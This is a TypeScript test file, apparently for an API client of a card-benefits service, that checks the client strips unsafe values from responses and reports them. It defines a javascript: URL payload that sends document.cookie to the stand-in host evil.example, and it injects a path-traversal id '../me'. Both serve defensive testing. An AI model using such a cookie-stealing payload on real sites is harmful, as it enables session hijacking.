import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { API, sandboxClient, TOKEN, useSandbox } from '../test/sandbox.js';
import { InvalidResponseError } from './errors.js';
import type { RightsEvent } from './events.js';

const { server } = useSandbox();

/** What the sandbox answers at `path`, as JSON, to serve altered. */
async function sandboxBody<T>(path: string): Promise<T> {
  const response = await fetch(`${API}${path}`, { headers: { Authorization: `Bearer ${TOKEN}`, 'Accept-Language': 'en' } });
  return (await response.json()) as T;
}

interface Page {
  items: Record<string, unknown>[];
  nextCursor: string | null;
}

// A value no report may carry: it could be an attack, or the cardholder's own data.
const HOSTILE = 'javascript:fetch("//evil.example/?c="+document.cookie)';

function recording() {
  const events: RightsEvent[] = [];
  const client = sandboxClient({ locale: 'en', onEvent: (event) => events.push(event) });
  const degraded = () => events.filter((event) => event.type === 'degraded');
  return { client, events, degraded };
}

describe('a response with values the contract can do without', () => {
  it('keeps every benefit of a page with one broken image, and reports where once, without the value', async () => {
    const page = await sandboxBody<Page>('/v1/benefits?limit=20');
    expect(page.items).toHaveLength(20);
    page.items[7] = { ...page.items[7], image: { url: HOSTILE, alt: '' } };
    server.use(http.get(`${API}/v1/benefits`, () => HttpResponse.json(page, { headers: { 'X-Request-Id': 'req-degraded-1' } })));

    const { client, events, degraded } = recording();
    const benefits = await client.benefits.list({ limit: 20 });
    expect(benefits.items.map((benefit) => benefit.id)).toEqual(page.items.map((benefit) => benefit.id));
    expect(benefits.items[7]).not.toHaveProperty('image');
    expect(benefits.items[6]?.image?.url).toMatch(/^https?:\/\//);
    expect(degraded()).toEqual([{ type: 'degraded', method: 'GET', path: '/v1/benefits', requestId: 'req-degraded-1', dropped: ['items.7.image'] }]);

    // The cache serves the same answer again: it was reported once, when it arrived.
    await client.benefits.list({ limit: 20 });
    expect(degraded()).toHaveLength(1);
    expect(JSON.stringify(events)).not.toContain('evil.example');
    expect(JSON.stringify(benefits)).not.toContain('evil.example');
  });

  it('reads a benefit whose terms hold a bad link, with the link’s text and without the link, in one report', async () => {
    const detail = await sandboxBody<{ terms: { type: string; spans?: { text: string; link?: string }[] }[]; partner: Record<string, unknown> }>('/v1/benefits/lounge-domestic');
    detail.terms = [{ type: 'paragraph', spans: [{ text: 'See the full terms', link: HOSTILE }] }, ...detail.terms];
    detail.partner = { ...detail.partner, logo: HOSTILE };
    server.use(http.get(`${API}/v1/benefits/lounge-domestic`, () => HttpResponse.json(detail)));

    const { client, events, degraded } = recording();
    const benefit = await client.benefits.get('lounge-domestic');
    expect(benefit.terms[0]).toEqual({ type: 'paragraph', spans: [{ text: 'See the full terms' }] });
    expect(benefit.terms).toHaveLength(detail.terms.length);
    expect(degraded()).toEqual([expect.objectContaining({ path: '/v1/benefits/lounge-domestic', dropped: ['partner.logo', 'terms.0.spans.0.link'] })]);
    expect(JSON.stringify(events)).not.toContain('evil.example');
  });

  it('reports nothing for an answer that fits the contract', async () => {
    const { client, events } = recording();
    await Promise.all([client.benefits.list(), client.benefits.get('lounge-domestic'), client.wallet.list(), client.me.get()]);
    expect(events.some((event) => event.type === 'degraded')).toBe(false);
    expect(events.filter((event) => event.type === 'response')).toHaveLength(4);
  });

  it('still fails the whole answer for a value it cannot do without, and reports no degradation', async () => {
    const page = await sandboxBody<Page>('/v1/benefits?limit=5');
    page.items[2] = { ...page.items[2], id: '../me', image: { url: HOSTILE, alt: '' } };
    server.use(http.get(`${API}/v1/benefits`, () => HttpResponse.json(page)));

    const { client, degraded } = recording();
    const error = await client.benefits.list({ limit: 5 }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(InvalidResponseError);
    expect((error as InvalidResponseError).issues.map((issue) => issue.path)).toEqual(['items.2.id']);
    expect(degraded()).toEqual([]);
  });
});
